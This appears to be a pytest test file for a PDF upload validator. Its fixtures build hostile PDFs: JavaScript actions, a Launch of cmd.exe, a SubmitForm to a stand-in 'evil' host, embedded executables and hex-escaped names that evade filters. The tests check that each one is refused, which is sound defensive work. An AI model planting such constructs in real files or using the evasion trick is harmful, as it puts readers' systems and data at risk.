"""The PDF check walks every object: scripts, launch/submit actions and embedded files are refused anywhere."""

from __future__ import annotations

import io
from collections.abc import Callable

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)
from werkzeug.datastructures import FileStorage

from app.core import uploads

SCRIPTS = "chứa mã lệnh"
ACTIONS = "chứa lệnh mở chương trình hoặc gửi dữ liệu"
EMBEDDED = "chứa tệp đính kèm bên trong"


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **extra) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in extra.items():
        action[_name(f"/{key}")] = value
    return action


def javascript() -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject("app.alert('x')"))


def _link(**entries) -> DictionaryObject:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(50), FloatObject(50)]),
        }
    )
    for key, value in entries.items():
        annotation[_name(f"/{key}")] = value
    return annotation


def build(change: Callable[[PdfWriter], None] | None = None) -> bytes:
    """A one-page PDF, changed by ``change`` before it is written."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _annotate(annotation):
    return lambda w: w.add_annotation(page_number=0, annotation=annotation)


def _page_aa(w):
    w.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): javascript()})


def _catalog(key, value):
    return lambda w: w.root_object.__setitem__(_name(key), value)


def _outline_js(w):
    item = w.add_outline_item(title="Mục lục", page_number=0)
    item.get_object()[_name("/A")] = javascript()


def _names_js(w):
    tree = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("chao"), w._add_object(javascript())])}
    )
    w.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): w._add_object(tree)})


def _attachment(w):
    w.add_attachment("hidden.exe", b"MZ\x90\x00")


def _file_annotation(w):
    stream = DecodedStreamObject()
    stream.set_data(b"MZ\x90\x00")
    stream[_name("/Type")] = _name("/EmbeddedFile")
    spec = DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/F"): TextStringObject("x.exe"),
            _name("/EF"): DictionaryObject({_name("/F"): w._add_object(stream)}),
        }
    )
    annotation = _link(FS=spec)
    annotation[_name("/Subtype")] = _name("/FileAttachment")
    w.add_annotation(page_number=0, annotation=annotation)


def _hex_escaped_names() -> bytes:
    """``/J#61vaScript`` and ``/J#53`` are ``/JavaScript`` and ``/JS`` to a PDF reader."""
    placeholder = DictionaryObject(
        {_name("/S"): _name("/Jxx1vaScript"), _name("/Jzzz"): TextStringObject("x")}
    )
    data = build(lambda w: w.root_object.__setitem__(_name("/OpenAction"), placeholder))
    # Same lengths, so the cross-reference offsets stay right.
    return data.replace(b"/Jxx1vaScript", b"/J#61vaScript").replace(b"/Jzzz", b"/J#53")


HOSTILE = {
    "annotation /A JavaScript": (_annotate(_link(A=javascript())), SCRIPTS),
    "annotation /AA JavaScript": (
        _annotate(_link(AA=DictionaryObject({_name("/E"): javascript()}))),
        SCRIPTS,
    ),
    "page /AA": (_page_aa, SCRIPTS),
    "catalog /OpenAction JavaScript": (_catalog("/OpenAction", javascript()), SCRIPTS),
    "catalog /AA": (_catalog("/AA", DictionaryObject({_name("/WC"): javascript()})), SCRIPTS),
    "names tree /JavaScript": (_names_js, SCRIPTS),
    "outline item /A JavaScript": (_outline_js, SCRIPTS),
    "hex-escaped names": (_hex_escaped_names, SCRIPTS),
    "catalog /OpenAction Launch": (
        _catalog("/OpenAction", _action("/Launch", F=TextStringObject("cmd.exe"))),
        ACTIONS,
    ),
    "annotation SubmitForm": (
        _annotate(_link(A=_action("/SubmitForm", F=TextStringObject("https://evil.localhost/")))),
        ACTIONS,
    ),
    "annotation ImportData": (
        _annotate(_link(A=_action("/ImportData", F=TextStringObject("x.fdf")))),
        ACTIONS,
    ),
    "embedded files in the names tree": (_attachment, EMBEDDED),
    "file attachment annotation": (_file_annotation, EMBEDDED),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_pdfs_are_refused_with_a_clear_message(app, name):
    change, message = HOSTILE[name]
    data = change() if change is _hex_escaped_names else build(change)
    with pytest.raises(uploads.UploadError) as refused:
        uploads.check_pdf(data)
    assert message in str(refused.value)


def test_a_clean_pdf_with_an_ordinary_link_passes(app):
    link = _link(A=_action("/URI", URI=TextStringObject("https://baochinhphu.vn/")))
    data = build(_annotate(link))
    uploads.check_pdf(data)
    key = uploads.save_pdf(FileStorage(stream=io.BytesIO(data), filename="giay.pdf"), "letters")
    assert uploads.read_upload(key) == data


def test_a_refused_pdf_is_not_stored(app):
    from pathlib import Path

    data = build(_page_aa)
    with pytest.raises(uploads.UploadError):
        uploads.save_pdf(FileStorage(stream=io.BytesIO(data), filename="giay.pdf"), "letters")
    assert not [p for p in Path(app.config["UPLOAD_DIR"]).rglob("*") if p.is_file()]
